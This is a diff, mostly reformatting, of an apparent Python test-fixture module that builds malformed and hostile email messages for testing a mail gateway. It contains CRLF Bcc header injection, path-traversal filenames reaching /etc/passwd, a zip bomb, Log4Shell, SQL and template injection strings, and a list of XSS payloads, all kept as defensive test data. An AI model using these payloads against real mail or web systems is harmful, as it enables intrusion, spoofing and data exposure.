@@ -9,7 +9,6 @@ from __future__ import annotations
 import base64
 import io
 import zipfile
-from collections.abc import Callable
 from dataclasses import dataclass
 
 FROM = b"From: Ola <{row}@hostile.example>\r\n"
@@ -47,7 +46,7 @@ def mime(content_type: bytes, body: bytes, *more: bytes) -> bytes:
 
 def multipart(*parts: bytes, subtype: bytes = b"mixed") -> bytes:
     body = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"
-    return mime(b'multipart/' + subtype + b'; boundary="b"', body)
+    return mime(b"multipart/" + subtype + b'; boundary="b"', body)
 
 
 def file(name: bytes, data: bytes = b"x", content_type: bytes = b"application/octet-stream") -> bytes:
@@ -71,9 +70,7 @@ def encoded_words(count: int) -> bytes:
 
 
 def nested(depth: int) -> bytes:
-    opened = b"".join(
-        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(depth)
-    )
+    opened = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(depth))
     return TOP + b"MIME-Version: 1.0\r\n" + opened + b"Content-Type: text/plain\r\n\r\ndeep\r\n"
 
 
@@ -103,14 +100,20 @@ def headers_rows() -> list[Bad]:
         Bad("quote-in-from", instead(b"From", b'From: "')),
         Bad("angle-in-from", instead(b"From", b"From: <")),
         Bad("forged-address-in-from", instead(b"From", b"From: alice@example.org)bob@evil.example")),
-        Bad("newline-in-from", instead(b"From", b"From: =?utf-8?Q?Ola=0ABcc:_eva@victim.example?= <nl@hostile.example>")),
+        Bad(
+            "newline-in-from", instead(b"From", b"From: =?utf-8?Q?Ola=0ABcc:_eva@victim.example?= <nl@hostile.example>")
+        ),
         Bad(
             "crlf-bcc-in-from",
             instead(b"From", b"From: =?utf-8?Q?Ola=0D=0ABcc:_eva@victim.example?= <crlf@hostile.example>"),
         ),
         Bad("crlf-bcc-in-subject", instead(b"Subject", b"Subject: =?utf-8?Q?x=0D=0ABcc:_eva@victim.example=0D=0A?=")),
         Bad("raw-cr-bcc-in-subject", instead(b"Subject", b"Subject: x\rBcc: eva@victim.example"), "250|5"),
-        Bad("raw-cr-bcc-in-from", instead(b"From", b"From: Ola\rBcc: eva@victim.example <rawcr@hostile.example>"), "250|5"),
+        Bad(
+            "raw-cr-bcc-in-from",
+            instead(b"From", b"From: Ola\rBcc: eva@victim.example <rawcr@hostile.example>"),
+            "250|5",
+        ),
         Bad("nul-in-subject", instead(b"Subject", b"Subject: a\x00b"), "250|5"),
         Bad("vt-ff-nel-ls-in-subject", instead(b"Subject", "Subject: a\x0bb\x0cc\u0085d\u2028e\u2029f".encode())),
         Bad("encoded-controls", instead(b"Subject", b"Subject: =?utf-8?Q?a=00b=0Bc=C2=85d=E2=80=A8e=E2=80=AEf?=")),
@@ -122,7 +125,9 @@ def headers_rows() -> list[Bad]:
         Bad("raw-utf-16", instead(b"Subject", b"Subject: " + "plain".encode("utf-16-be")), "250|5"),
         Bad("unknown-charset", instead(b"Subject", b"Subject: =?klingon?Q?Qapla=27?=")),
         Bad("charset-that-is-no-charset", instead(b"Subject", b"Subject: =?zlib?B?eJwDAAAAAAE=?= =?base64?Q?x?=")),
-        Bad("broken-encoded-words", instead(b"Subject", b"Subject: =?utf-8?B?w6Y=?=?=?= =?utf-8?X?y?= =?utf-8?B?*?= =?")),
+        Bad(
+            "broken-encoded-words", instead(b"Subject", b"Subject: =?utf-8?B?w6Y=?=?=?= =?utf-8?X?y?= =?utf-8?B?*?= =?")
+        ),
         Bad("no-message-id", instead(b"Message-ID", b"")),
         Bad("message-id-bracket", instead(b"Message-ID", b"Message-ID: <[>")),
         Bad("message-id-at", instead(b"Message-ID", b"Message-ID: <@>")),
@@ -138,7 +143,10 @@ def headers_rows() -> list[Bad]:
         Bad("reply-to-elsewhere", headers(b"Reply-To: eva@victim.example")),
         Bad("reply-to-ourselves", headers(b"Reply-To: support@example.com")),
         Bad("reply-to-many", headers(b"Reply-To: a@victim.example, b@victim.example, c@victim.example")),
-        Bad("our-own-x-headers", headers(b"X-Mailgate-Loop: c261123001.abcdefgh.a" + b"a" * 20, b"X-Mailgate-Agent: kari")),
+        Bad(
+            "our-own-x-headers",
+            headers(b"X-Mailgate-Loop: c261123001.abcdefgh.a" + b"a" * 20, b"X-Mailgate-Agent: kari"),
+        ),
         *(
             Bad(f"forged-results-{n}", headers(b"Authentication-Results: " + line))
             for n, line in enumerate(
@@ -159,7 +167,12 @@ def headers_rows() -> list[Bad]:
         Bad("colons-only", b":\r\n: x\r\n::\r\n" + headers()),
         Bad("continuation-first", b" continued\r\n\tfrom nowhere\r\n" + headers()),
         Bad("bare-line-feeds", headers().replace(b"\r\n", b"\n")),
-        Bad("101-received", b"Received: from a by b; Mon, 23 Nov 2026 08:00:00 +0000\r\n" * 101 + headers(), "554", ("ignored",)),
+        Bad(
+            "101-received",
+            b"Received: from a by b; Mon, 23 Nov 2026 08:00:00 +0000\r\n" * 101 + headers(),
+            "554",
+            ("ignored",),
+        ),
         Bad("from-us", instead(b"From", b"From: support@example.com"), dispositions=("held",)),
         Bad("from-us-tagged", instead(b"From", b"From: support+x@example.com"), dispositions=("held",)),
         Bad("from-nobody", instead(b"From", b"From: no-reply@hostile.example")),
@@ -181,7 +194,8 @@ def mime_rows() -> list[Bad]:
             "boundary-prefix-of-another",
             mime(
                 b'multipart/mixed; boundary="b"',
-                b'--b\r\nContent-Type: multipart/alternative; boundary="bb"\r\n\r\n--bb\r\n\r\nx\r\n--bb--\r\n--b--\r\n',
+                b'--b\r\nContent-Type: multipart/alternative; boundary="bb"\r\n\r\n'
+                b"--bb\r\n\r\nx\r\n--bb--\r\n--b--\r\n",
             ),
         ),
         Bad("boundary-never-used", mime(b'multipart/mixed; boundary="b"', b"no boundary here\r\n")),
@@ -189,10 +203,23 @@ def mime_rows() -> list[Bad]:
         Bad("charset-nul", mime(b'text/plain; charset="\x00"', b"x\r\n"), "250|5"),
         *(
             Bad(f"charset-{name.decode()}", mime(b"text/plain; charset=" + name, b"+ADw-script+AD4- \xe5\xe6\r\n"))
-            for name in (b"klingon", b"base64", b"utf-7", b"unicode_escape", b"idna", b"undefined", b"zlib", b"utf-16", b"hex")
+            for name in (
+                b"klingon",
+                b"base64",
+                b"utf-7",
+                b"unicode_escape",
+                b"idna",
+                b"undefined",
+                b"zlib",
+                b"utf-16",
+                b"hex",
+            )
         ),
         Bad("base64-junk", mime(b"text/plain", b"\xff*(&^%$#@!====\r\nx\r\n", b"Content-Transfer-Encoding: base64")),
-        Bad("quoted-printable-junk", mime(b"text/plain", b"=ZZ=\xff=\r\n=", b"Content-Transfer-Encoding: quoted-printable")),
+        Bad(
+            "quoted-printable-junk",
+            mime(b"text/plain", b"=ZZ=\xff=\r\n=", b"Content-Transfer-Encoding: quoted-printable"),
+        ),
         Bad("unknown-transfer-encoding", mime(b"text/plain", b"x\r\n", b"Content-Transfer-Encoding: x-klingon")),
         Bad("truncated-uuencode", mime(b"text/plain", b"begin 644 a.txt\r\nM\xff\xff\xff\r\n")),
         Bad("html-only", mime(b"text/html", b"<p>The printer</p><script>alert(1)</script>\r\n")),
@@ -200,14 +227,30 @@ def mime_rows() -> list[Bad]:
         Bad("html-unclosed", mime(b"text/html", b"<a href='\r\n" * 20_000)),
         Bad("html-utf-16", mime(b"text/html; charset=utf-16", b"\xff\xfe<\0p\0>\0h\0i\0"), "250|5"),
         Bad("image-only", mime(b"image/png; name=x.png", b"iVBORw0KGgo=\r\n", b"Content-Transfer-Encoding: base64")),
-        Bad("attachment-only", mime(b"application/pdf; name=x.pdf", b"JVBERi0=\r\n", b"Content-Disposition: attachment")),
+        Bad(
+            "attachment-only", mime(b"application/pdf; name=x.pdf", b"JVBERi0=\r\n", b"Content-Disposition: attachment")
+        ),
         Bad("calendar", mime(b"text/calendar; method=REQUEST", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\n")),
         Bad("vcard", mime(b"text/vcard", b"BEGIN:VCARD\r\nFN:x\r\nEND:VCARD\r\n")),
-        Bad("smime", mime(b"application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", b"MIAGCSqGSIb3DQEHA6CA\r\n")),
-        Bad("pgp", mime(b'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"', b"--b\r\n\r\nVersion: 1\r\n")),
-        Bad("winmail", multipart(PLAIN, file(b"winmail.dat", b"\x78\x9f\x3e\x22" + b"\xff" * 500, b"application/ms-tnef"))),
+        Bad(
+            "smime",
+            mime(b"application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", b"MIAGCSqGSIb3DQEHA6CA\r\n"),
+        ),
+        Bad(
+            "pgp",
+            mime(
+                b'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"', b"--b\r\n\r\nVersion: 1\r\n"
+            ),
+        ),
+        Bad(
+            "winmail",
+            multipart(PLAIN, file(b"winmail.dat", b"\x78\x9f\x3e\x22" + b"\xff" * 500, b"application/ms-tnef")),
+        ),
         Bad("message-partial", mime(b'message/partial; id="x"; number=1; total=2', b"Subject: y\r\n\r\nz\r\n")),
-        Bad("external-body", mime(b'message/external-body; access-type=URL; URL="file:///etc/passwd"', b"Content-Type: x/y\r\n\r\n")),
+        Bad(
+            "external-body",
+            mime(b'message/external-body; access-type=URL; URL="file:///etc/passwd"', b"Content-Type: x/y\r\n\r\n"),
+        ),
         Bad("zip-bomb", multipart(PLAIN, file(b"a.zip", zip_bomb(), b"application/zip"))),
         Bad("polyglot", multipart(PLAIN, file(b"a.pdf.html.png", b"%PDF-1.4 <script>GIF89a\x89PNG", b"image/png"))),
         Bad("200-files-of-one-name", multipart(*[file(b"x.txt", b"%d" % n) for n in range(199)])),
@@ -218,10 +261,10 @@ def mime_rows() -> list[Bad]:
                 (
                     b'"../../../etc/passwd"',
                     b'"C:\\\\windows\\\\system.ini"',
-                    b"\"=?utf-8?B?4oCLLmh0YWNjZXNz?=\"",
+                    b'"=?utf-8?B?4oCLLmh0YWNjZXNz?="',
                     b'"a\x00b.txt"',
                     b"CON",
-                    b"\"=?utf-8?B?4oCuZ3BqLmV4ZQ==?=\"",
+                    b'"=?utf-8?B?4oCuZ3BqLmV4ZQ==?="',
                     b'"' + b"x" * 5_000 + b'.txt"',
                     b'""',
                     b'"a\r\n Bcc: eva@victim.example"',
@@ -236,24 +279,48 @@ def mime_rows() -> list[Bad]:
         Bad("combining-marks", mime(b"text/plain; charset=utf-8", ("e" + "\u0301" * 500 + "\r\n").encode() * 1_000)),
         Bad("lone-surrogates", mime(b"text/plain; charset=utf-8", b"\xed\xa0\x80\xed\xbf\xbf x \xf4\x90\x80\x80\r\n")),
         Bad("nul-in-text", mime(b"text/plain", b"a\x00b\x00c\r\n"), "250|5"),
-        Bad("report-without-parts", mime(b"multipart/report; report-type=delivery-status; boundary=b", b""), dispositions=("held",)),
-        Bad("report-of-junk", mime(b'multipart/report; report-type=delivery-status; boundary="b"',
-            b"--b\r\nContent-Type: message/delivery-status\r\n\r\nFinal-Recipient: \xff\r\nStatus: 9.9.9\r\n--b--"),
-            dispositions=("held",)),
+        Bad(
+            "report-without-parts",
+            mime(b"multipart/report; report-type=delivery-status; boundary=b", b""),
+            dispositions=("held",),
+        ),
+        Bad(
+            "report-of-junk",
+            mime(
+                b'multipart/report; report-type=delivery-status; boundary="b"',
+                b"--b\r\nContent-Type: message/delivery-status\r\n\r\nFinal-Recipient: \xff\r\nStatus: 9.9.9\r\n--b--",
+            ),
+            dispositions=("held",),
+        ),
         Bad("content-type-junk", mime(b";;;=/\xff", b"x\r\n")),
         Bad("content-type-endless", mime(b"text/plain; " + b"a=b; " * 3_000, b"x\r\n")),
-    ]  # fmt: skip
+    ]
 
 
 TEMPLATES = ("{{7*7}}", "${jndi:ldap://x.example/a}", "%n%s%x", "'; DROP TABLE ticket; --", "{% raw %}", "<b>&amp;</b>")
 XSS = (
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
-    "<iframe srcdoc='<script>alert(1)</script>'>", "<math><mtext><script>alert(1)</script>", "<style>@import 'x'</style>",
-    "<form action=//x><input name=p>", "<body onload=alert(1)>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<img src='cid:x' onload=alert(1)>", "<object data=//x>", "<embed src=//x>", "<base href=//x>", "<meta http-equiv=refresh>",
-    "<a href=' java\tscript:alert(1)'>x</a>", "<template><script>alert(1)</script></template>", "<video src=//x onerror=a()>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<table background=//x>", "<link rel=stylesheet href=//x>",
-)  # fmt: skip
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<math><mtext><script>alert(1)</script>",
+    "<style>@import 'x'</style>",
+    "<form action=//x><input name=p>",
+    "<body onload=alert(1)>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<img src='cid:x' onload=alert(1)>",
+    "<object data=//x>",
+    "<embed src=//x>",
+    "<base href=//x>",
+    "<meta http-equiv=refresh>",
+    "<a href=' java\tscript:alert(1)'>x</a>",
+    "<template><script>alert(1)</script></template>",
+    "<video src=//x onerror=a()>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<table background=//x>",
+    "<link rel=stylesheet href=//x>",
+)
 
 
 def words_rows() -> list[Bad]:
@@ -265,26 +332,23 @@ def words_rows() -> list[Bad]:
                 f'From: "{text}" <template-{n}@hostile.example>\r\nTo: support@example.com\r\nSubject: {text}\r\n'
                 f"Message-ID: <template-{n}@hostile.example>\r\nX-Other: {text}\r\nMIME-Version: 1.0\r\n"
                 f'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\n{text}\r\n--b\r\n'
-                f"Content-Type: text/html\r\nContent-Disposition: attachment; filename*=utf-8''x{n}.html\r\n\r\n{text}\r\n--b--\r\n"
+                f"Content-Type: text/html\r\nContent-Disposition: attachment; filename*=utf-8''x{n}.html\r\n\r\n"
+                f"{text}\r\n--b--\r\n"
             ).encode(),
         )
         for n, text in enumerate(TEMPLATES)
     ]
     return everywhere + [
-        Bad(f"xss-{n}", mime(b"text/html; charset=utf-8", f"<p>Hello {text}</p>\r\n".encode())) for n, text in enumerate(XSS)
+        Bad(f"xss-{n}", mime(b"text/html; charset=utf-8", f"<p>Hello {text}</p>\r\n".encode()))
+        for n, text in enumerate(XSS)
     ]
 
 
 def _named(rows: list[Bad]) -> list[Bad]:
-    return [
-        Bad(row.name, row.data.replace(b"{row}", row.name.encode()), row.smtp, row.dispositions) for row in rows
-    ]
+    return [Bad(row.name, row.data.replace(b"{row}", row.name.encode()), row.smtp, row.dispositions) for row in rows]
 
 
 def all_rows() -> list[Bad]:
     rows = _named([*headers_rows(), *mime_rows(), *words_rows()])
     assert len({row.name for row in rows}) == len(rows)
     return rows
-
-
-Make = Callable[..., bytes]
